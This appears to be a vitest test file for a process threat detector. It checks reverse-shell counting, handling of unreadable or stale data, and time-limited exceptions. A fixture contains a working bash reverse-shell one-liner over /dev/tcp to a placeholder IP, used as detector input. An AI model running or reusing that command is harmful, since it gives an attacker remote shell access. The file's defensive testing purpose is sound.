// Threats on the port of the process detector: counted and listed while the processes can be read, absent when not.
import { beforeEach, expect, test } from 'vitest';
import type { ThreatException } from '../../../core/contracts/threats.ts';
import {
  openThreats,
  scanThreats,
  type ThreatPorts,
  type ThreatState,
  threatSamples,
} from '../../../detectors/process/threat-watch.ts';
import { type FakePorts, fakePorts } from '../../fakes/detector.ts';
import { type FakeHttp, fakeHttp } from '../../fakes/http.ts';

const now = 1_800_000_000;
const address = 'http://c:9401/v1/processes';
const snapshot = (argv: string[], takenAtSeconds = now) => ({
  instance: 'n1',
  takenAtSeconds,
  scanGapSeconds: 15,
  processes: [{ pid: 77, ppid: 1, comm: argv[0]!.slice(0, 15), argv }],
  omitted: 0,
  nextCursor: null,
});
const shell = ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'];

let state: ThreatState;
let fakes: FakePorts;
let http: FakeHttp;
let ports: ThreatPorts;
let allowed: ThreatException[];
beforeEach(() => {
  allowed = [];
  state = openThreats();
  fakes = fakePorts({}, now);
  http = fakeHttp({ [address]: snapshot(shell) });
  fakes.prometheus.get = async () => ({
    activeTargets: [{ labels: { job: 'node', instance: 'n1' }, scrapeUrl: 'http://c:9401/metrics', health: 'up' }],
  });
  const { prometheus, clock, log } = fakes;
  ports = { prometheus, clock, log, http, token: () => 'secret', exceptions: async () => allowed };
});
const scan = () => scanThreats(state, ports, 30);
const threats = () => threatSamples(state).filter(({ name }) => name === 'process_threats');

test('a reverse shell is counted and listed', async () => {
  await scan();
  const critical = threats().filter(({ labels, value }) => labels.tier === 'critical' && value > 0);
  expect(critical.map(({ labels }) => labels)).toEqual([
    { detector: 'process', instance: 'n1', tier: 'critical', category: 'reverse_shells' },
  ]);
  expect(state.seen.get('n1')!.report.threats.map(({ pid }) => pid)).toEqual([77]);
  expect(http.asked[0]!.authorization).toBe('Bearer secret');
});

test('none is a 0 that was read', async () => {
  http.answers.set(address, snapshot(['sleep', '5']));
  await scan();
  expect(threats().length).toBeGreaterThan(6);
  expect(threats().every(({ value }) => value === 0)).toBe(true);
});

test.each([
  { given: 'a collector that refuses', fail: () => http.answers.set(address, 401) },
  { given: 'half an answer', fail: () => http.answers.set(address, '{') },
  {
    given: 'no token',
    fail: () =>
      Object.assign(ports, {
        token: () => {
          throw new Error('none');
        },
      }),
  },
  {
    given: 'Prometheus silent',
    fail: () => Object.assign(fakes.prometheus, { get: () => Promise.reject(new Error('down')) }),
  },
  { given: 'an old snapshot', fail: () => http.answers.set(address, snapshot(shell, now - 1000)) },
])('$given: unknown is no 0', async ({ given, fail }) => {
  fail();
  await scan();
  expect(threats()).toEqual([]);
  expect(state.failuresTotal).toBe(given === 'an old snapshot' ? 0 : 1);
});

test('what was read is forgotten after three rounds without an answer', async () => {
  await scan();
  http.answers.set(address, 503);
  fakes.clock.now += 60;
  await scan();
  expect(threats().length).toBeGreaterThan(0);
  fakes.clock.now += 31;
  await scan();
  expect(threats()).toEqual([]);
});

const sha = 'a'.repeat(64);
const known = {
  ...snapshot(shell),
  processes: [
    { pid: 1, comm: 'init', argv: ['init'], exe: '/sbin/init' },
    { pid: 77, ppid: 1, comm: 'bash', argv: shell, exeSha256: sha, container: null },
  ],
};
const exception: ThreatException = {
  id: 'drill',
  exeSha256: sha,
  argv: shell,
  parentExe: '/sbin/init',
  container: null,
  expiresAtSeconds: now + 60,
  reason: 'a drill of this week',
  owner: 'ops',
};

test('an allowed process is listed with its exception and not counted, until the exception ends', async () => {
  http.answers.set(address, known);
  allowed = [exception];
  await scan();
  expect(threats().every(({ value }) => value === 0)).toBe(true);
  expect(state.seen.get('n1')!.report.threats.map(({ allowedBy }) => allowedBy)).toEqual(['drill']);
  fakes.clock.now += 61;
  http.answers.set(address, { ...known, takenAtSeconds: now + 61 });
  await scan();
  expect(threats().some(({ value }) => value > 0)).toBe(true);
});

test('exceptions that cannot be read allow nothing and are a failure', async () => {
  http.answers.set(address, known);
  ports.exceptions = () => Promise.reject(new Error('half a file'));
  await scan();
  expect(threats().some(({ value }) => value > 0)).toBe(true);
  expect(state.lastError).toContain('half a file');
});
